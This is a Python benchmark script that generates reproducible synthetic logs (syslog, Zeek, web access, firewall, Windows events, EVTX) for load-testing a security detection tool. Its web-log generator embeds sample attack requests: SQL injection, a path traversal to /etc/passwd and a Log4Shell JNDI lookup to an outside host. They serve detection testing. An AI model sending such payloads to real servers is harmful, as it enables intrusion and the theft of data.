"""Input for benchmarks: as many events as wanted, the same for the same seed.

    python benchmarks/make_corpora.py windows-jsonl 1000000 --output /tmp/windows.jsonl [--attack-share 0.09]
    python benchmarks/make_corpora.py evtx 200000 --output /tmp/windows.evtx
    python benchmarks/make_corpora.py syslog|zeek|web|firewall 1000000 --output FILE [--benign]

``windows-jsonl`` mixes generated events with varied copies of the attack samples in ``$VONGGAC_CORPORA`` (default
``../shared/data``); without them all events are generated. ``evtx`` repeats whole chunks of those samples. Output goes to
standard output without ``--output``.
"""

from __future__ import annotations

import argparse
import os
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterable, Iterator
from contextlib import nullcontext
from datetime import UTC, datetime, timedelta
from itertools import islice
from pathlib import Path
from random import Random
from typing import BinaryIO

from corpora_windows import windows_lines

CORPORA = Path(os.environ.get("VONGGAC_CORPORA", Path(__file__).parent.parent.parent / "shared" / "data"))
START = datetime(2026, 11, 23, tzinfo=UTC)
LINES_AT_ONCE = 2000

_USERS = tuple(
    f"{name}{number}" for name in ("lan", "minh", "hoa", "tuan", "admin", "oracle", "test") for number in range(60)
)
_MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()


def moments(n: int) -> Iterator[float]:
    """``n`` times, evenly over a day, in seconds since 1970."""
    first, step = START.timestamp(), 86_400 / max(n, 1)
    for number in range(n):
        yield first + number * step


class Clock:
    """Writes times; the calendar is asked once per second."""

    def __init__(self, form: Callable[[datetime], str]) -> None:
        self._form = form
        self._second = -1
        self._text = ""

    def __call__(self, moment: float) -> str:
        """``moment`` in whole seconds."""
        if int(moment) != self._second:
            self._second = int(moment)
            self._text = self._form(datetime.fromtimestamp(self._second, UTC))
        return self._text


def inner(random: Random) -> str:
    """A private address."""
    bits = random.getrandbits(16)
    return f"10.{20 + (bits & 15)}.{(bits >> 4) & 15}.{bits >> 8}"


def outer(random: Random) -> str:
    """A public-looking address of a wide range, so that distinct values are many."""
    bits = random.getrandbits(24)
    return f"{60 + (bits & 31)}.{(bits >> 5) & 127}.{(bits >> 12) & 255}.{1 + (bits >> 20)}"


def syslog(n: int, random: Random) -> Iterator[str]:
    """Logins, sudo, cron and named, as rsyslog writes them (RFC 3164)."""
    clock = Clock(lambda t: f"{_MONTHS[t.month - 1]} {t.day:2} {t:%H:%M:%S}")
    bits = random.getrandbits
    makers: tuple[Callable[[], str], ...] = (
        lambda: f"sshd[{bits(15)}]: Failed password for {random.choice(_USERS)} from {outer(random)} port {1024 + bits(15)} ssh2",
        lambda: f"sshd[{bits(15)}]: Failed password for invalid user {random.choice(_USERS)} from {outer(random)} port {1024 + bits(15)} ssh2",
        lambda: f"sshd[{bits(15)}]: Accepted publickey for {random.choice(_USERS)} from {inner(random)} port {1024 + bits(15)} ssh2: ED25519 SHA256:{bits(256):x}",
        lambda: f"sshd[{bits(15)}]: pam_unix(sshd:session): session closed for user {random.choice(_USERS)}",
        lambda: f"sudo:  {random.choice(_USERS)} : TTY=pts/{bits(3)} ; PWD=/srv/{bits(12)} ; USER=root ; COMMAND=/usr/bin/systemctl restart job-{bits(12)}",
        lambda: f"CRON[{bits(15)}]: (root) CMD (/usr/local/bin/job-{bits(10)} --quiet)",
        lambda: f"named[811]: client @0x7f{bits(32):08x} {inner(random)}#{1024 + bits(15)} (h{bits(20)}.example): query: h{bits(20)}.example IN A +E(0)K (10.20.1.53)",
        lambda: f"systemd[1]: Started Session {bits(18)} of user {random.choice(_USERS)}.",
    )  # fmt: skip
    weights = (24, 12, 12, 12, 8, 10, 16, 6)
    for moment, make in zip(moments(n), _chosen(random, makers, weights), strict=False):
        yield f"{clock(moment)} srv-{bits(6):02} {make()}"


def _chosen(
    random: Random, makers: tuple[Callable[[], str], ...], weights: tuple[int, ...]
) -> Iterator[Callable[[], str]]:
    while True:
        yield from random.choices(makers, weights, k=4096)


def firewall(n: int, random: Random) -> Iterator[str]:
    """New connections through a NAT gateway, as conntrack logs them."""
    clock = Clock(lambda t: f"{t:%Y-%m-%dT%H:%M:%S}")
    bits = random.getrandbits
    for moment in moments(n):
        source, target, port = inner(random), outer(random), 1024 + bits(15)
        yield (
            f"{clock(moment)}.{int(moment % 1 * 1e6):06}+00:00 gw-{bits(3)} conntrack[612]: [NEW] tcp      6 120 SYN_SENT "
            f"src={source} dst={target} sport={port} dport=443 [UNREPLIED] "
            f"src={target} dst=192.0.2.{bits(8)} sport=443 dport={1024 + bits(15)}"
        )


def web(n: int, random: Random, *, is_benign: bool = False) -> Iterator[str]:
    """Requests in the combined log format; one in two hundred is an attack, unless ``is_benign``."""
    clock = Clock(lambda t: f"{t.day:02}/{_MONTHS[t.month - 1]}/{t:%Y:%H:%M:%S} +0000")
    bits = random.getrandbits
    agents = tuple(
        f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"
        for v in range(90, 142)
    )
    attacks = (
        "/x?id=1%20UNION%20SELECT%20{}",
        "/get?f=../../../../etc/passwd{}",
        "/?q=${{jndi:ldap://198.51.100.9/{}}}",
    )
    for moment in moments(n):
        attack = bits(8) == 0 and not is_benign
        uri = (
            random.choice(attacks).format(bits(20))
            if attack
            else f"/page/{bits(10)}/item-{bits(18)}?ref={bits(16):x}&lang=vi"
        )
        status = 404 if bits(5) == 0 else 200
        yield (
            f'{outer(random)} - - [{clock(moment)}] "GET {uri} HTTP/1.1" {status} {bits(16)} '
            f'"https://www.songvan.example/page/{bits(10)}" "{random.choice(agents)}"'
        )


_CONN_FIELDS = (
    "ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto service duration orig_bytes resp_bytes conn_state local_orig local_resp "
    "missed_bytes history orig_pkts orig_ip_bytes resp_pkts resp_ip_bytes tunnel_parents"
)
_CONN_TYPES = (
    "time string addr port addr port enum string interval count count string bool bool count string count count count count "
    "set[string]"
)


def zeek(n: int, random: Random) -> Iterator[str]:
    """A conn.log in Zeek's own form."""
    yield from ("#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", "#path\tconn")
    yield "#fields\t" + "\t".join(_CONN_FIELDS.split())
    yield "#types\t" + "\t".join(_CONN_TYPES.split())
    bits = random.getrandbits
    for moment in moments(n):
        sent, received = bits(13), bits(17)
        yield (
            f"{moment:.6f}\tC{bits(80):020x}\t{inner(random)}\t{1024 + bits(15)}\t{outer(random)}\t443\ttcp\tssl\t{bits(20) / 1e5:.6f}\t"
            f"{sent}\t{received}\tSF\tT\tF\t0\tShADadFf\t{bits(5)}\t{sent + 400}\t{bits(7)}\t{received + 900}\t(empty)"
        )


# EVTX: [MS-EVEN6] names the content; the container is as libevtx documents it ("Windows XML Event Log (EVTX) format").
CHUNK, FILE_HEADER, CHUNK_HEADER, RECORD_MAGIC = 65_536, 4096, 512, b"**\0\0"
_FILETIME_EPOCH = datetime(1601, 1, 1, tzinfo=UTC)
MAX_CHUNKS = 65_535


def sample_chunks(corpora: Path) -> list[bytes]:
    """The chunks of all EVTX samples that hold records."""
    chunks = []
    for file in sorted([*(corpora / "evtx").rglob("*.evtx"), *(corpora / "sigma" / "regression_data").rglob("*.evtx")]):
        data = file.read_bytes()
        for start in range(FILE_HEADER, len(data) - CHUNK + 1, CHUNK):
            chunk = data[start : start + CHUNK]
            if chunk.startswith(b"ElfChnk\0") and any(records_of(chunk)):
                chunks.append(chunk)
    return chunks


def records_of(chunk: bytes | bytearray) -> Iterator[int]:
    """Where the records of ``chunk`` begin."""
    position, end = CHUNK_HEADER, min(struct.unpack_from("<I", chunk, 48)[0], CHUNK)
    while position + 24 <= end and chunk[position : position + 4] == RECORD_MAGIC:
        yield position
        size = struct.unpack_from("<I", chunk, position + 4)[0]
        if size < 28:
            return
        position += size


def renumbered(chunk: bytes, first: int, moment: datetime) -> tuple[bytes, int]:
    """``chunk`` with records numbered from ``first`` and written at ``moment``, checksums right; and how many there are."""
    new = bytearray(chunk)
    stamp = (moment - _FILETIME_EPOCH) // timedelta(microseconds=1) * 10
    number = first
    for position in records_of(chunk):
        struct.pack_into("<QQ", new, position + 8, number, stamp + (number - first) * 10_000)
        number += 1
    struct.pack_into("<QQQQ", new, 8, first, number - 1, first, number - 1)
    end = struct.unpack_from("<I", new, 48)[0]
    struct.pack_into("<I", new, 52, zlib.crc32(new[CHUNK_HEADER:end]))
    struct.pack_into("<I", new, 124, zlib.crc32(new[:120] + new[128:CHUNK_HEADER]))
    return bytes(new), number - first


def write_evtx(n: int, random: Random, out: BinaryIO, corpora: Path) -> int:
    """Write an EVTX file of at least ``n`` records (whole chunks); returns how many. ``out`` must be seekable."""
    chunks = sample_chunks(corpora)
    if not chunks:
        raise SystemExit(f"no EVTX samples in {corpora}: set VONGGAC_CORPORA")
    out.write(bytes(FILE_HEADER))
    done = n_chunks = 0
    while done < n and n_chunks < MAX_CHUNKS:
        chunk, count = renumbered(random.choice(chunks), done + 1, START + timedelta(seconds=n_chunks))
        out.write(chunk)
        done += count
        n_chunks += 1
    head = bytearray(FILE_HEADER)
    struct.pack_into("<8sQQQIHHHH", head, 0, b"ElfFile\0", 0, n_chunks - 1, done + 1, 128, 1, 3, FILE_HEADER, n_chunks)
    struct.pack_into("<I", head, 124, zlib.crc32(head[:120]))
    out.seek(0)
    out.write(head)
    return done


def write_lines(lines: Iterable[str], out: BinaryIO) -> int:
    """Write ``lines`` many at a time; returns the number of bytes."""
    source, size = iter(lines), 0
    while some := list(islice(source, LINES_AT_ONCE)):
        size += out.write(("\n".join(some) + "\n").encode("utf-8", "replace"))
    return size


KINDS = {"syslog": syslog, "zeek": zeek, "web": web, "firewall": firewall}


def main(arguments: list[str] | None = None) -> None:
    """Write what the command line asks for and say how fast that went."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=["windows-jsonl", "evtx", *KINDS])
    parser.add_argument("n", type=int, help="how many events")
    parser.add_argument("--output", type=Path, help="file to write; standard output without it")
    parser.add_argument("--seed", type=int, default=20261124)
    parser.add_argument(
        "--attack-share", type=float, default=0.09, help="share of windows-jsonl events copied from attack samples"
    )
    parser.add_argument("--benign", action="store_true", help="no attacks at all, whatever the share")
    parser.add_argument("--corpora", type=Path, default=CORPORA, help="folder of the samples")
    asked = parser.parse_args(arguments)
    if asked.n < 0 or not 0 <= asked.attack_share <= 1:
        parser.error("n must not be negative, and the share must be between 0 and 1")
    if asked.kind == "evtx" and asked.benign:
        parser.error("evtx is made of attack samples: none of it is benign")
    if asked.kind == "evtx" and asked.output is None:
        parser.error("evtx needs --output: its header is written last")
    random, begin = Random(asked.seed), time.perf_counter()
    with asked.output.open("wb") if asked.output else nullcontext(sys.stdout.buffer) as out:
        n = asked.n
        if asked.kind == "evtx":
            n = write_evtx(asked.n, random, out, asked.corpora)
        elif asked.kind == "windows-jsonl":
            share = 0 if asked.benign else asked.attack_share
            write_lines(windows_lines(asked.n, share, random, asked.corpora, START), out)
        elif asked.kind == "web":
            write_lines(web(asked.n, random, is_benign=asked.benign), out)
        else:
            write_lines(KINDS[asked.kind](asked.n, random), out)
    seconds = time.perf_counter() - begin
    print(f"{n:,} events in {seconds:.1f} s ({n / seconds:,.0f}/s)", file=sys.stderr)


if __name__ == "__main__":
    main()
